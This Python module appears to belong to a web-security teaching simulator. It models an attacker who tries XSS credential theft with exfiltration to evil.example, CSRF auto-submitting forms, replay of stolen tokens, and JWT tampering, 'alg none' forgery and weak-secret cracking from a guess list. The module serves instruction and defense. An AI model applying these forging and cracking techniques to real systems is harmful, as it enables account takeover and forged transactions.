"""The attacker: a second site (https://evil.example) and the attacker's own machine.

Every attack here only *tries* something; whether it works is decided by the same code
that handles the victim: the browser's cookie jar and CORS checks, the server's
signature checks and its store. The attacker keeps what they obtain in
`World.attacker_loot` (credential name -> value), shown in each event's state.

Each attack ends with one `attack` event (src "attacker") whose detail says what was
attempted, what was stolen, whether it worked, and the server's verdict reasons for
the requests it caused.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Callable, Mapping, Sequence
from html import escape
from typing import Any

from itsdangerous import BadSignature

from simulator.auth_session import session_signer
from simulator.cookies_out import parse_cookie_header
from simulator.cors import preflight_allows
from simulator.engine import ATTACKER_ORIGIN, World, response_detail
from simulator.http import Request, Response
from simulator.page_script import TOKEN_KEY, PageScript
from simulator.wire import request_detail

Runner = Callable[[World, PageScript, Mapping[str, Any]], None]

WEAK_SECRETS: tuple[str, ...] = (
    # What offline crackers try first: defaults from tutorials and frameworks, and the
    # usual suspects. A lesson's `secret` setting decides whether one of them is right.
    "secret",
    "your-256-bit-secret",
    "password",
    "changeme",
    "123456",
    "secretkey",
    "mysecret",
    "supersecret",
    "jwt-secret",
    "jwt_secret",
    "key",
    "admin",
    "letmein",
    "qwerty",
    "s3cr3t",
    "default",
)
"""The attacker's guess list for a weak HS256 / cookie-signing secret."""

ATTACKER_ACCOUNT = ("bob", "builder")
"""An ordinary account the attacker controls, used to get a sample credential."""


# -- shared helpers ---------------------------------------------------------------------
def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_decode(segment: str) -> bytes:
    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


def _json_segment(value: Mapping[str, Any]) -> str:
    return b64url(json.dumps(value, separators=(",", ":")).encode("utf-8"))


def hs256_sign(signing_input: str, secret: str) -> str:
    mac = hmac.new(secret.encode("utf-8"), signing_input.encode("ascii"), hashlib.sha256)
    return b64url(mac.digest())


def take(world: World, stolen: Mapping[str, str]) -> None:
    """Add what the attacker obtained to their loot."""
    if stolen:
        world.attacker_loot.update(stolen)
        world.attacker_version += 1
        world.changes.count += 1


def attack_event(
    world: World,
    attack: str,
    dst: str,
    label: str,
    explain: str,
    *,
    attempted: str,
    stolen: Mapping[str, str],
    success: bool,
    **extra: Any,
) -> None:
    detail: dict[str, Any] = {
        "attack": attack,
        "attempted": attempted,
        "stolen": dict(stolen),
        "success": success,
    }
    detail.update(extra)
    world.recorder.emit("attack", "attacker", dst, label, explain, detail)


def _verdicts_since(world: World, start: int) -> list[dict[str, Any]]:
    return [dict(e.detail) for e in world.recorder.events[start:] if e.kind == "verdict"]


def _reasons(verdicts: Sequence[Mapping[str, Any]]) -> list[str]:
    return [f"{v['check']}: {v['reason']}" for v in verdicts]


def offsite_exchange(
    world: World,
    method: str,
    url: str,
    body: Any,
    status: int,
    why: str,
    answer: str,
    page: str | None = None,
) -> None:
    """A request from the victim's browser to evil.example and its answer (no app server);
    `page` is the HTML evil.example answers with, if any."""
    rid = world.browser.new_request_id()
    world.recorder.tally.requests += 1
    hs: tuple[tuple[str, str], ...] = ()
    if body is not None:
        hs = (("Content-Type", "text/plain"),)
    request = Request(method, url, hs, body)
    context = {
        "initiator": world.app_origin if method == "POST" else None,
        "kind": "fetch" if method == "POST" else "navigate",
        "cross_site": method == "POST",
    }
    detail = request_detail(request, rid, "browser", context, [], [])
    world.recorder.emit("request", "browser", "attacker", f"{method} {url}", why, detail)
    html = (("Content-Type", "text/html; charset=utf-8"),) if page is not None else ()
    response = Response(status, html, page)
    world.recorder.emit(
        "response",
        "attacker",
        "browser",
        f"{status} {response.phrase}".strip(),
        answer,
        response_detail(response, rid, []),
    )


def csrf_page(action: str, fields: Mapping[str, Any]) -> str:
    """evil.example's page: a hidden form that posts itself to `action` on load."""
    inputs = "".join(
        f'<input type="hidden" name="{escape(str(k))}" value="{escape(str(v))}">'
        for k, v in fields.items()
    )
    return (
        "<!doctype html><title>You have won a prize</title>"
        f'<form method="POST" action="{escape(action)}">{inputs}</form>'
        "<script>document.forms[0].submit()</script>"
    )


def attacker_send(
    world: World, method: str, path: str, headers: Sequence[tuple[str, str]], body: Any, why: str
) -> Response:
    """A request typed by the attacker on their own machine: no browser rules apply."""
    hs = list(headers)
    if body is not None:
        hs.insert(0, ("Content-Type", "application/json"))
    request = Request(method, world.app_origin + path, tuple(hs), body)
    return world.deliver(
        request, "attacker", {"initiator": None, "kind": "fetch", "cross_site": True}, why=why
    )


def token_rides_in_cookie(world: World) -> bool:
    return world.mode == "jwt" and world.config.text("token_storage") == "cookie"


def credential_headers(world: World, creds: Mapping[str, str]) -> list[tuple[str, str]]:
    """How a held credential is put on a request to the API, as the app itself sends it."""
    cookies: list[str] = []
    headers: list[tuple[str, str]] = []
    if "sid" in creds:
        cookies.append(f"sid={creds['sid']}")
    token = creds.get(TOKEN_KEY)
    if token is not None:
        if token_rides_in_cookie(world):
            cookies.append(f"{TOKEN_KEY}={token}")
        else:
            headers.append(("Authorization", f"Bearer {token}"))
    if cookies:
        headers.append(("Cookie", "; ".join(cookies)))
    return headers


def _cookie_values(response: Response) -> dict[str, str]:
    out: dict[str, str] = {}
    for line in response.set_cookies():
        name, _, rest = line.partition("=")
        value = rest.split(";", 1)[0].strip()
        if value and "Max-Age=0" not in line:
            out[name.strip()] = value
    return out


def credentials_of(response: Response) -> dict[str, str]:
    """The credentials a response hands out: cookie values and a token in the body."""
    found = _cookie_values(response)
    if isinstance(response.body, dict) and isinstance(response.body.get(TOKEN_KEY), str):
        found[TOKEN_KEY] = response.body[TOKEN_KEY]
    return found


def own_login(world: World) -> dict[str, str]:
    """The attacker logs in to their own ordinary account, from their own machine."""
    user, password = ATTACKER_ACCOUNT
    response = attacker_send(
        world,
        "POST",
        "/auth/login",
        (),
        {"username": user, "password": password},
        why=f"The attacker logs in to an ordinary account they own ({user}) from their own "
        "machine, to get a genuine credential to work on.",
    )
    return credentials_of(response) if response.status == 200 else {}


def _outcome(response: Response | None) -> str:
    if response is None:
        return "never sent"
    return f"{response.status} {response.phrase}".strip()


# -- XSS --------------------------------------------------------------------------------
def xss_steal(world: World, page: PageScript, args: Mapping[str, Any]) -> None:
    b = world.browser
    b.expire_cookies()
    url = b.app_origin + "/"
    doc_cookie, hidden = b.jar.script_visible_with_reasons(url, now=world.clock.t)
    stolen: dict[str, str] = dict(parse_cookie_header(doc_cookie))
    local = dict(b.local_storage.get(b.app_origin, {}))
    memory = dict(b.page.memory)
    stolen.update(local)
    stolen.update(memory)
    offsite_exchange(
        world,
        "POST",
        f"{ATTACKER_ORIGIN}/collect",
        stolen or None,
        204,
        "The injected script sends what it could read to the attacker's server. Sending data "
        "to another origin needs no permission: CORS only guards reading the answer.",
        "evil.example receives the loot.",
    )
    take(world, stolen)
    hidden_rows = [{"name": lo.name, "reason": lo.reason} for lo in hidden]
    places = []
    if doc_cookie:
        places.append(f"document.cookie ({', '.join(parse_cookie_header(doc_cookie))})")
    if local:
        places.append(f"localStorage ({', '.join(local)})")
    if memory:
        places.append(f"page memory ({', '.join(memory)})")
    http_only = [h["name"] for h in hidden_rows if h["reason"].startswith("HttpOnly")]
    if places:
        explain = "The injected script read " + "; ".join(places) + " and sent it to evil.example."
    else:
        explain = (
            "The injected script found no credential in document.cookie, localStorage or "
            "page memory."
        )
    if http_only:
        explain += f" HttpOnly kept {', '.join(http_only)} out of its reach."
    attack_event(
        world,
        "xss_steal",
        "browser",
        "XSS: stole " + (", ".join(stolen) if stolen else "nothing"),
        explain,
        attempted="read document.cookie, localStorage and page memory in the app page, "
        "and send them to evil.example",
        stolen=stolen,
        success=bool(stolen),
        document_cookie=doc_cookie,
        hidden=hidden_rows,
        local_storage=local,
        memory=memory,
    )


def xss_request(world: World, page: PageScript, args: Mapping[str, Any]) -> None:
    start = len(world.recorder.events)
    body = {"amount": args["amount"], "to": args["to"]}
    response = page.fetch(
        "POST",
        "/api/transfer",
        body,
        why="The injected script calls the API from inside the app page, exactly as the page's "
        "own code does: the browser attaches whatever cookies match, and the script can use any "
        "token the page can reach.",
    )
    verdicts = _verdicts_since(world, start)
    ok = response is not None and response.status == 200
    explain = (
        f"The transfer the attacker asked for went through ({_outcome(response)}): nothing "
        "had to be stolen to misuse the login while the page is open."
        if ok
        else f"The on-page request was refused ({_outcome(response)})."
    )
    attack_event(
        world,
        "xss_request",
        "browser",
        f"XSS: on-page transfer → {_outcome(response)}",
        explain,
        attempted=f"from the victim's page, POST /api/transfer {body}",
        stolen={},
        success=ok,
        status=None if response is None else response.status,
        reasons=_reasons(verdicts),
    )


# -- CSRF and cross-site script ----------------------------------------------------------
def csrf(world: World, page: PageScript, args: Mapping[str, Any]) -> None:
    body = {"amount": args["amount"], "to": args["to"]}
    offsite_exchange(
        world,
        "GET",
        f"{ATTACKER_ORIGIN}/",
        None,
        200,
        "The victim, still logged in to app.example, opens a page on evil.example.",
        "evil.example serves a page with a hidden form that submits itself.",
        page=csrf_page(world.app_origin + "/api/transfer", body),
    )
    start = len(world.recorder.events)
    response = world.browser.send(
        "POST",
        world.app_origin + "/api/transfer",
        initiator=ATTACKER_ORIGIN,
        kind="form",
        headers=[("Content-Type", "application/x-www-form-urlencoded")],
        body=body,
        why="evil.example's form posts to app.example/api/transfer. A form cannot add headers; "
        "the browser decides by itself which cookies ride along on this cross-site POST.",
    )
    verdicts = _verdicts_since(world, start)
    ok = response is not None and response.status == 200
    explain = (
        f"The forged transfer went through ({_outcome(response)}): the server saw a "
        "valid credential the browser attached by itself."
        if ok
        else f"The forged transfer was refused ({_outcome(response)})."
    )
    attack_event(
        world,
        "csrf",
        "browser",
        f"CSRF: forged transfer → {_outcome(response)}",
        explain,
        attempted=f"cross-site form POST {world.app_origin}/api/transfer "
        f"{body} from {ATTACKER_ORIGIN}",
        stolen={},
        success=ok,
        status=None if response is None else response.status,
        reasons=_reasons(verdicts),
    )


def cross_site_fetch(world: World, page: PageScript, args: Mapping[str, Any]) -> None:
    kind = str(args["kind"])
    method = str(args["method"]).upper()
    if kind == "subresource":
        method = "GET"
    headers: list[tuple[str, str]] = []
    token = world.attacker_loot.get(TOKEN_KEY)
    if args["authorization"]:
        headers.append(("Authorization", f"Bearer {token or 'guessed-token'}"))
    body: Any = None
    if method == "POST":
        body = {"amount": 1000, "to": "mallory"}
        headers.insert(0, ("Content-Type", "text/plain"))
    start = len(world.recorder.events)
    what = "an <img> tag" if kind == "subresource" else "fetch(…, {credentials: 'include'})"
    response = world.browser.send(
        method,
        world.app_origin + str(args["path"]),
        initiator=ATTACKER_ORIGIN,
        kind=kind,
        headers=headers,
        body=body,
        why=f"Script on evil.example calls app.example{args['path']} with {what}"
        f"{' and an Authorization header' if args['authorization'] else ''}; the browser "
        "applies SameSite, its third-party cookie setting and CORS.",
    )
    verdicts = _verdicts_since(world, start)
    readable = False
    read: Any = None
    if response is not None and kind == "fetch":
        readable, why = preflight_allows(response.headers, ATTACKER_ORIGIN, with_credentials=True)
        if readable:
            read = response.body
        else:
            world.recorder.emit(
                "verdict",
                "browser",
                "browser",
                "✗ CORS: answer hidden",
                f"The request reached the server, but the browser hides the answer from "
                f"evil.example's script: {why}.",
                {"ok": False, "check": "cors", "reason": why, "user": None},
            )
    stolen: dict[str, str] = {}
    if readable and isinstance(read, dict) and isinstance(read.get(TOKEN_KEY), str):
        stolen[TOKEN_KEY] = read[TOKEN_KEY]
    take(world, stolen)
    status = None if response is None else response.status
    # A GET only pays off if the script can read the answer; a POST acts either way.
    ok = status == 200 and (readable or method != "GET")
    if response is None:
        explain = "The browser never sent the request: the CORS preflight was not allowed."
    elif ok and method == "GET":
        explain = f"The server answered {_outcome(response)} and CORS let evil.example read it."
    elif ok:
        explain = f"The state-changing request went through ({_outcome(response)})."
    else:
        explain = (
            f"The attempt failed: the server answered {_outcome(response)}"
            + ("" if readable or kind != "fetch" else " and the script could not read the answer")
            + "."
        )
    attack_event(
        world,
        "cross_site_fetch",
        "browser",
        f"Cross-site {kind}: {_outcome(response)}",
        explain,
        attempted=f"{method} {world.app_origin}{args['path']} from {ATTACKER_ORIGIN} "
        f"as a {kind}{' with an Authorization header' if args['authorization'] else ''}",
        stolen=stolen,
        success=ok,
        status=status,
        sent=response is not None,
        readable=readable,
        read=read,
        reasons=_reasons(verdicts),
    )


# -- the attacker's own machine ----------------------------------------------------------
def steal(world: World, page: PageScript, args: Mapping[str, Any]) -> None:
    b = world.browser
    b.expire_cookies()
    stolen: dict[str, str] = {}
    for row in b.jar.rows():
        if row.value:
            stolen[row.name] = row.value
    stolen.update(b.local_storage.get(b.app_origin, {}))
    stolen.update(b.page.memory)
    take(world, stolen)
    attack_event(
        world,
        "steal",
        "browser",
        "Stolen: " + (", ".join(stolen) if stolen else "nothing"),
        "Malware on the victim's computer copies the browser's cookie database (HttpOnly or "
        "not: that flag only hides cookies from page script), its localStorage and the open "
        "page's memory."
        if stolen
        else "There was no credential on the victim's computer to copy.",
        attempted="copy every cookie, localStorage entry and page-memory value for app.example "
        "from the victim's computer",
        stolen=stolen,
        success=bool(stolen),
    )


def _replay_with(
    world: World,
    attack: str,
    creds: Mapping[str, str],
    method: str,
    path: str,
    attempted: str,
    why: str,
    stolen: Mapping[str, str] | None = None,
    **extra: Any,
) -> Response:
    start = len(world.recorder.events)
    body = (
        {"amount": 1000, "to": "mallory"} if method == "POST" and path == "/api/transfer" else None
    )
    response = attacker_send(world, method, path, credential_headers(world, creds), body, why)
    verdicts = _verdicts_since(world, start)
    ok = response.status == 200
    names = ", ".join(creds) or "no credential"
    explain = (
        f"The server accepted it ({_outcome(response)}): it cannot tell the attacker's "
        "copy from the real thing."
        if ok
        else f"The server refused it ({_outcome(response)}"
        + (f": {verdicts[-1]['reason']}" if verdicts else "")
        + ")."
    )
    attack_event(
        world,
        attack,
        response_server(world, start),
        f"{attack.replace('_', ' ').capitalize()} ({names}) → {_outcome(response)}",
        explain,
        attempted=attempted,
        stolen=dict(stolen or {}),
        success=ok,
        status=response.status,
        reasons=_reasons(verdicts),
        reason=verdicts[-1]["reason"] if verdicts else "",
        **extra,
    )
    return response


def response_server(world: World, start: int) -> str:
    for e in world.recorder.events[start:]:
        if e.kind == "verdict" and e.src.startswith("server"):
            return e.src
    return world.servers[0].name


def replay(world: World, page: PageScript, args: Mapping[str, Any]) -> None:
    loot = world.attacker_loot
    creds = {k: loot[k] for k in ("sid", TOKEN_KEY) if k in loot}
    method, path = str(args["method"]).upper(), str(args["path"])
    _replay_with(
        world,
        "replay",
        creds,
        method,
        path,
        attempted=f"{method} {path} from the attacker's machine with the stolen "
        f"{', '.join(creds) or '(nothing)'}",
        why="From their own machine the attacker sends the stolen credential, exactly as "
        "the victim's browser would.",
    )


def refresh_reuse(world: World, page: PageScript, args: Mapping[str, Any]) -> None:
    token = world.attacker_loot.get("refresh")
    start = len(world.recorder.events)
    headers = [("Cookie", f"refresh={token}")] if token else []
    response = attacker_send(
        world,
        "POST",
        "/auth/refresh",
        headers,
        None,
        why="From their own machine the attacker presents the stolen refresh token to "
        "/auth/refresh, hoping for a fresh access token.",
    )
    verdicts = _verdicts_since(world, start)
    gained = credentials_of(response) if response.status == 200 else {}
    gained = {k: v for k, v in gained.items() if k in ("refresh", TOKEN_KEY)}
    take(world, gained)
    ok = response.status == 200
    reason = (
        verdicts[-1]["reason"]
        if verdicts
        else (response.body.get("error", "") if isinstance(response.body, dict) else "")
    )
    explain = (
        "The server took the stolen refresh token and rotated it: the attacker now holds "
        "a new access token and a new refresh token."
        if ok
        else f"The server refused it ({_outcome(response)}: {reason})."
    )
    attack_event(
        world,
        "refresh_reuse",
        response_server(world, start),
        f"Refresh with stolen token → {_outcome(response)}",
        explain,
        attempted="POST /auth/refresh from the attacker's machine with the stolen "
        + ("refresh token" if token else "(no refresh token: none was stolen)"),
        stolen=gained,
        success=ok,
        status=response.status,
        reasons=_reasons(verdicts),
        reason=reason,
    )


def _credential_to_work_on(world: World) -> tuple[dict[str, str], str]:
    loot = world.attacker_loot
    key = "sid" if world.mode == "session" else TOKEN_KEY
    if key in loot:
        return {key: loot[key]}, "the stolen"
    own = own_login(world)
    return ({key: own[key]} if key in own else {}), "their own account's"


def tamper_jwt(token: str, claim: str, value: str) -> str:
    """Change one payload claim and keep the old signature."""
    parts = token.split(".")
    if len(parts) != 3:
        return token
    try:
        payload = json.loads(b64url_decode(parts[1]))
    except ValueError:
        return token
    payload[claim] = value
    return ".".join((parts[0], _json_segment(payload), parts[2]))


def tamper_sid(signed: str) -> str:
    """Change the session id inside a signed sid cookie and keep the old signature."""
    sid, sep, sig = signed.rpartition(".")
    if not sep or not sid:
        return signed[:-1] + ("0" if signed[-1:] != "0" else "1")
    last = "0" if sid[-1] != "0" else "1"
    return f"{sid[:-1]}{last}.{sig}"


def tamper(world: World, page: PageScript, args: Mapping[str, Any]) -> None:
    creds, source = _credential_to_work_on(world)
    claim, value = str(args["claim"]), str(args["value"])
    if "sid" in creds:
        changed = {"sid": tamper_sid(creds["sid"])}
        what = "changed the session id inside the signed sid cookie, keeping its signature"
    elif TOKEN_KEY in creds:
        changed = {TOKEN_KEY: tamper_jwt(creds[TOKEN_KEY], claim, value)}
        what = f"set the JWT payload's {claim} to {value!r}, keeping the old signature"
    else:
        changed, what = {}, "had nothing to tamper with"
    _replay_with(
        world,
        "tamper",
        changed,
        "GET",
        "/api/profile",
        attempted=f"took {source} credential, {what}, and sent it",
        why=f"The attacker {what}, and sends it to the server.",
        original=creds,
        tampered=changed,
    )


def _forged_claims(world: World, user: str, role: str) -> dict[str, Any]:
    now = int(world.clock.epoch)
    return {
        "sub": user,
        "role": role,
        "iat": now,
        "exp": now + 3600,
        "jti": world.entropy.token_hex(8),
    }


def forge_none(world: World, page: PageScript, args: Mapping[str, Any]) -> None:
    user, role = str(args["user"]), str(args["role"])
    if world.mode == "session":
        forged = {"sid": world.entropy.token_hex(16)}
        what = "a sid cookie with a made-up id and no signature"
    else:
        header = {"alg": "none", "typ": "JWT"}
        token = f"{_json_segment(header)}.{_json_segment(_forged_claims(world, user, role))}."
        forged = {TOKEN_KEY: token}
        what = f'a token with alg "none" and no signature, claiming sub={user}, role={role}'
    _replay_with(
        world,
        "forge_none",
        forged,
        "GET",
        "/api/profile",
        attempted=f"forge {what}",
        why=f"The attacker sends {what}.",
        forged=forged,
    )


def crack_jwt(token: str) -> tuple[str | None, int]:
    """Try each weak secret against an HS256 token offline: (secret or None, guesses tried)."""
    parts = token.split(".")
    if len(parts) != 3:
        return None, 0
    try:
        alg = json.loads(b64url_decode(parts[0])).get("alg")
    except ValueError:
        return None, 0
    if alg != "HS256":
        return None, 0
    signing_input = f"{parts[0]}.{parts[1]}"
    for i, guess in enumerate(WEAK_SECRETS, start=1):
        if hmac.compare_digest(hs256_sign(signing_input, guess), parts[2]):
            return guess, i
    return None, len(WEAK_SECRETS)


def crack_sid(signed: str) -> tuple[str | None, int]:
    for i, guess in enumerate(WEAK_SECRETS, start=1):
        try:
            session_signer(guess).unsign(signed)
        except BadSignature:
            continue
        return guess, i
    return None, len(WEAK_SECRETS)


def forge_weak(world: World, page: PageScript, args: Mapping[str, Any]) -> None:
    user, role = str(args["user"]), str(args["role"])
    sample, source = _credential_to_work_on(world)
    forged: dict[str, str] = {}
    secret: str | None = None
    tried = 0
    if "sid" in sample:
        secret, tried = crack_sid(sample["sid"])
        key = secret or WEAK_SECRETS[0]
        forged = {"sid": session_signer(key).sign(world.entropy.token_hex(16)).decode()}
        what = "a sid cookie for a made-up session id, signed with " + (
            "the cracked key" if secret else f"the guess {key!r}"
        )
    elif TOKEN_KEY in sample:
        secret, tried = crack_jwt(sample[TOKEN_KEY])
        key = secret or WEAK_SECRETS[0]
        header = _json_segment({"alg": "HS256", "typ": "JWT"})
        payload = _json_segment(_forged_claims(world, user, role))
        forged = {TOKEN_KEY: f"{header}.{payload}.{hs256_sign(f'{header}.{payload}', key)}"}
        what = f"an HS256 token claiming sub={user}, role={role}, signed with " + (
            "the cracked secret" if secret else f"the guess {key!r}"
        )
    else:
        what = "nothing: no sample credential to test guesses against"
    cracked = (
        f"Offline, guess {tried} of {len(WEAK_SECRETS)} verified the sample's signature: "
        f"the secret is {secret!r}."
        if secret
        else f"Offline, none of {tried} common secrets verified the sample's signature."
    )
    if secret:
        # Cracked offline, before anything is sent: the attack's own event (the state
        # after it) already shows the secret in the attacker's hands.
        take(world, {"secret": secret})
    _replay_with(
        world,
        "forge_weak",
        forged,
        "GET",
        "/api/profile",
        attempted=f"take {source} credential as a sample, guess the signing secret "
        f"from {len(WEAK_SECRETS)} common ones, then forge {what}",
        why=f"{cracked} The attacker sends {what}.",
        stolen={"secret": secret} if secret else {},
        cracked=secret,
        guesses_tried=tried,
        forged=forged,
    )


SPECS: tuple[tuple[str, Mapping[str, tuple[type, Any]], str, tuple[str, ...]], ...] = (
    (
        "xss_steal",
        {},
        "XSS: injected script reads document.cookie, localStorage and page "
        "memory and sends them to evil.example.",
        ("session", "jwt", "hybrid"),
    ),
    (
        "xss_request",
        {"amount": (int, 1000), "to": (str, "mallory")},
        "XSS: injected script makes a transfer from the victim's own page.",
        ("session", "jwt", "hybrid"),
    ),
    (
        "csrf",
        {"amount": (int, 1000), "to": (str, "mallory")},
        "CSRF: the victim visits evil.example, whose form auto-submits POST /api/transfer.",
        ("session", "jwt", "hybrid"),
    ),
    (
        "cross_site_fetch",
        {
            "method": (str, "GET"),
            "path": (str, "/api/profile"),
            "authorization": (bool, False),
            "kind": (str, "fetch"),
        },
        "Script on evil.example calls the app's API (fetch with credentials, optionally an "
        "Authorization header; or an <img> subresource with kind = 'subresource').",
        ("session", "jwt", "hybrid"),
    ),
    (
        "steal",
        {},
        "Malware on the victim's computer copies cookies, localStorage and page memory.",
        ("session", "jwt", "hybrid"),
    ),
    (
        "replay",
        {"method": (str, "GET"), "path": (str, "/api/profile")},
        "The attacker sends the stolen credential from their own machine.",
        ("session", "jwt", "hybrid"),
    ),
    (
        "refresh_reuse",
        {},
        "The attacker presents the stolen refresh token to /auth/refresh.",
        ("hybrid",),
    ),
    (
        "tamper",
        {"claim": (str, "role"), "value": (str, "admin")},
        "The attacker edits a credential (a JWT claim, or the id in the sid cookie) and sends it.",
        ("session", "jwt", "hybrid"),
    ),
    (
        "forge_none",
        {"user": (str, "carol"), "role": (str, "admin")},
        "The attacker forges an unsigned token (alg: none) or an unsigned sid cookie.",
        ("session", "jwt", "hybrid"),
    ),
    (
        "forge_weak",
        {"user": (str, "carol"), "role": (str, "admin")},
        "The attacker guesses a weak signing secret offline from a sample and forges with it.",
        ("session", "jwt", "hybrid"),
    ),
)

LABELS: dict[str, Callable[[Mapping[str, Any]], str]] = {
    "xss_steal": lambda a: "Attacker's injected script reads the page's secrets",
    "xss_request": lambda a: "Attacker's injected script makes a transfer from the page",
    "csrf": lambda a: "User visits evil.example (CSRF form)",
    "cross_site_fetch": lambda a: (
        f"evil.example's script calls {a['path']}"
        + (" with an Authorization header" if a["authorization"] else "")
        + (" (image)" if a["kind"] == "subresource" else "")
    ),
    "steal": lambda a: "Malware copies the browser's credentials",
    "replay": lambda a: f"Attacker replays the stolen credential ({a['method']} {a['path']})",
    "refresh_reuse": lambda a: "Attacker uses the stolen refresh token",
    "tamper": lambda a: f"Attacker tampers with a credential ({a['claim']} → {a['value']})",
    "forge_none": lambda a: "Attacker forges an unsigned (alg: none) credential",
    "forge_weak": lambda a: "Attacker guesses the signing secret and forges",
}

RUNNERS: dict[str, Runner] = {
    "xss_steal": xss_steal,
    "xss_request": xss_request,
    "csrf": csrf,
    "cross_site_fetch": cross_site_fetch,
    "steal": steal,
    "replay": replay,
    "refresh_reuse": refresh_reuse,
    "tamper": tamper,
    "forge_none": forge_none,
    "forge_weak": forge_weak,
}

CHOICES: dict[tuple[str, str], tuple[str, ...]] = {
    ("cross_site_fetch", "kind"): ("fetch", "subresource"),
    ("cross_site_fetch", "method"): ("GET", "POST"),
    ("replay", "method"): ("GET", "POST"),
}
"""Arguments limited to a few values (checked when a lesson loads)."""
